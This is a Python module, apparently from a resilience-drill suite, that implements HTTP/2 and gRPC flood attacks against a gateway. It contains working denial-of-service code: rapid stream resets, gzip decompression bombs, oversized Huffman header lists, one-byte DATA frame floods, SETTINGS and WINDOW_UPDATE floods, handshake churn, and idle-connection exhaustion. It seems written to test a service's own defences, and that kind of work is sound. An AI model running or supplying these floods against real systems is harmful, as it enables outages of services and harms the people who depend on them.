"""Floods of frames: bytes that are made once and sent as fast as possible, without reading the answers."""

import gzip
import resource
import select
import socket
import time
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from itertools import islice
from types import TracebackType
from typing import Self

from hpack import Encoder

from drills.attacks.flooding import CONTRACT
from drills.attacks.target import VERIFY
from ndxp.http2 import frames, literal
from ndxp.wire import metadata

UNEXPLAINED = "without a reason"
"""Counted for a member's call that ended neither with OK nor with a reason and a transaction."""

MESSAGE = 16 * 1024 * 1024 - 1024
"""Bytes of a message just below the exchange's limit."""

PART = 16 * 1024
USUAL = ((":method", "POST"), (":scheme", "http"), (":authority", "flood"), ("content-type", "application/grpc"))
_SPARE_FILES = 500


@dataclass(frozen=True, slots=True)
class Aim:
    """The target of a flood, and the tokens that it shows; none for a stranger's flood."""

    gateway: str
    tokens: Sequence[str] = ()

    @property
    def identity(self) -> str:
        """The field of a header list that shows the first token."""
        return literal(metadata.AUTHORIZATION, f"Bearer {self.tokens[0]}") if self.tokens else ""


Frames = Callable[[Aim], Iterator[bytes]]
"""Makes the frames to send on one connection."""


class Hose:
    """A connection that sends as fast as it can and discards what comes; ``open`` until the other side ends it."""

    def __init__(self, address: str) -> None:
        host, _, port = address.rpartition(":")
        self.open = True
        self._socket = socket.create_connection((host, int(port)), timeout=5)
        self._socket.setblocking(False)
        self._poll = select.poll()
        self._poll.register(self._socket, select.POLLIN | select.POLLOUT)
        self._first = frames.PREFACE + frames.settings([(frames.INITIAL_WINDOW_SIZE, 0)])

    def __enter__(self) -> Self:
        return self

    def __exit__(self, _: type[BaseException] | None, __: BaseException | None, ___: TracebackType | None) -> None:
        self._socket.close()

    def send(self, data: bytes, until: float) -> bool:
        """Sends all data after the greeting; False when the time is over or the connection has ended."""
        left, self._first = memoryview(self._first + data), b""
        try:
            while left and (patience := until - time.monotonic()) > 0:
                for _, events in self._poll.poll(patience * 1000):
                    if events & ~select.POLLOUT and not self._socket.recv(1 << 18):
                        raise ConnectionResetError
                    if events & select.POLLOUT:
                        left = left[self._socket.send(left) :]
        except OSError:
            self.open = False
        return self.open and not left


def flow(make: Frames, aim: Aim, seconds: float) -> Counter[str]:
    """Sends the frames of ``make`` on one connection after the other, until the time is over."""
    replies: Counter[str] = Counter()
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        with Hose(aim.gateway) as hose:
            replies["connections"] += 1
            for data in make(aim):
                if not hose.send(data, until):
                    break
            replies["closed by the exchange"] += not hose.open
    return replies


def resets(aim: Aim) -> Iterator[bytes]:
    """Calls that are reset at once."""
    block, streams = _block(f"/{VERIFY}", aim.identity), _ids()
    while True:
        hundred = islice(streams, 100)
        yield b"".join(_begun(stream, block) + frames.rst_stream(stream, 8) for stream in hundred)


def bombs(aim: Aim) -> Iterator[bytes]:
    """Messages of 16 KB that become 16 MB when they are decompressed."""
    block = _block(f"/{CONTRACT}/Quick", aim.identity + literal("grpc-encoding", "gzip"))
    packed = gzip.compress(bytes(MESSAGE))
    message = b"\x01" + len(packed).to_bytes(4, "big") + packed
    parts = [message[at : at + PART] for at in range(0, len(message), PART)]
    for stream in _ids():
        yield _begun(stream, block) + b"".join(_data(stream, part, end=part is parts[-1]) for part in parts)


def header_lists(aim: Aim) -> Iterator[bytes]:
    """Header lists of 16 KB in Huffman code, of calls that are refused."""
    fields = [(f"x-{number}", "<>{}"[number % 4] * 1200, True) for number in range(7)]
    coded = Encoder().encode(fields, huffman=True)
    block = _block("/none.v1.None/None", aim.identity) + coded
    for stream in _ids():
        yield _begun(stream, block)


def bytes_of_data(aim: Aim) -> Iterator[bytes]:
    """Messages with one byte in each frame, on one stream after the other."""
    block = _block(f"/{VERIFY}", aim.identity)
    begin = b"\x00" + MESSAGE.to_bytes(4, "big")
    for stream in _ids(900):
        tiny = _data(stream, b"\x00") * 2000
        yield _begun(stream, block) + _data(stream, begin)
        yield from [tiny] * 32


def settings(aim: Aim) -> Iterator[bytes]:
    """SETTINGS that change the initial window of all streams, 2,000 times in each frame."""
    return _unread(aim, frames.settings([(frames.INITIAL_WINDOW_SIZE, number % 2) for number in range(2000)]))


def small_windows(aim: Aim) -> Iterator[bytes]:
    """WINDOW_UPDATEs of a byte for the connection."""
    return _unread(aim, frames.window_update(0, 1) * 1000)


def large_windows(aim: Aim) -> Iterator[bytes]:
    """WINDOW_UPDATEs of 1,024 bytes for the connection, which a normal peer may send."""
    return _unread(aim, frames.window_update(0, 1024) * 1000)


def handshakes(aim: Aim, seconds: float) -> Counter[str]:
    """Connections that send the greeting and are closed."""
    replies: Counter[str] = Counter()
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        with Hose(aim.gateway) as hose:
            hose.send(b"", until)
            replies["connections"] += 1
    return replies


def idle(most: int, aim: Aim, seconds: float) -> Counter[str]:
    """Connections that send the greeting and nothing more, as many as this process may have."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < most + _SPARE_FILES:
        soft = most + _SPARE_FILES if hard == resource.RLIM_INFINITY else min(hard, most + _SPARE_FILES)
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
        most = min(most, soft - _SPARE_FILES)
    hoses: list[Hose] = []
    until = time.monotonic() + seconds
    try:
        while len(hoses) < most and time.monotonic() < until:
            hoses.append(Hose(aim.gateway))
            hoses[-1].send(b"", until)
        time.sleep(max(0.0, until - time.monotonic()))
        return Counter({"connections": len(hoses)})
    finally:
        for hose in hoses:
            hose.__exit__(None, None, None)


def _unread(aim: Aim, more: bytes) -> Iterator[bytes]:
    """Calls whose answers have no window, and then frames that make the exchange handle all of them.

    They are calls of the flood's own provider, so that other members do not wait for the same agency.
    """
    block = _block(f"/{CONTRACT}/Short", aim.identity)
    for stream in _ids(900):
        yield _begun(stream, block) + _data(stream, bytes(5), end=True)
    while True:
        yield more


def _block(path: str, more: str) -> bytes:
    fields = "".join(literal(*field) for field in ((":path", path), *USUAL))
    return (fields + more).encode("latin-1")


def _begun(stream: int, block: bytes) -> bytes:
    return frames.block(stream, block, PART, end=False)


def _data(stream: int, data: bytes, *, end: bool = False) -> bytes:
    return frames.frame(frames.DATA, frames.END_STREAM if end else 0, stream, data)


def _ids(most: int = 1 << 29) -> Iterator[int]:
    return iter(range(1, 2 * most, 2))
